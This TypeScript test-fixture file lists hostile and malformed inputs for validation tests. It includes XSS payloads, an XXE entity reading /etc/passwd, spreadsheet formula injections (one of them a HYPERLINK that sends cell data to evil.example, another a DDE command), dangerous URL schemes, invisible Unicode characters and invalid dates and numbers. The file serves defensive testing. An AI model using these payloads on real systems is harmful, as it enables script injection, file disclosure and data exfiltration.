/** What must never run or be read as an instruction, wherever a text may go. `window.hit` tells that it did. */
export const markup = [
  '<script>window.hit=1</script>',
  '"><img src=x onerror=window.hit=1>',
  "'><svg/onload=window.hit=1>",
  '</text></svg><script>window.hit=1</script>',
  '<a href="javascript:window.hit=1">x</a>',
  ']]><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"/></foreignObject>',
  '&lt;script&gt;window.hit=1&lt;/script&gt;',
  '<![CDATA[<script>window.hit=1</script>]]>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '{{constructor.constructor("window.hit=1")()}}',
] as const

export const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '+SUM(1,1)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uFF1D1+1',
  'x;=1+1',
  'x,=1+1',
  'x\n=1+1',
] as const

export const addresses = [
  'javascript:window.hit=1',
  ' \u0001javascript:window.hit=1',
  'JaVaScRiPt:window.hit=1',
  'data:text/html,<script>window.hit=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=',
  'vbscript:x',
  'file://server.invalid/x',
  'ms-word:ofe|u|https://evil.example/x.docx',
  '//evil.example/x',
  'https://example.org/"onmouseover="window.hit=1',
] as const

export const unseen = [
  '\u202Egnihtyreve\u202C',
  '\u2066x\u2069',
  'a\u200Bb',
  'a\u2060b',
  '\uFEFFa',
  'a\u00ADb',
  'a\u200Db',
  '\u200Fa',
  'a\u0000b',
  'a\u001Bb',
  'a\uFFFDb',
  'a\u{E0041}b',
  'a\u3164b',
] as const

/** That exist in no calendar, or that no record of a mission can have. */
export const dates = [
  '2024-02-30',
  '2024-13',
  '2024-00',
  '2023-02-29',
  '9999-12-31',
  '0000',
  '0100-01-01',
  '24-1-1',
  '2024-1-1',
  '01/02/2024',
  '2024-04-09T00:00:00Z',
  '45000',
  'NaN',
  '',
  '2024-04-09 ',
  '-2024-01-01',
] as const

export const numbers = [
  '1e308',
  '1e400',
  '-1e400',
  '-1',
  '9007199254740993',
  '0.1',
  '1e-320',
  '"12"',
  '"NaN"',
  '"Infinity"',
  '1E2',
  '-0',
  '999999999999999999999999999999',
] as const
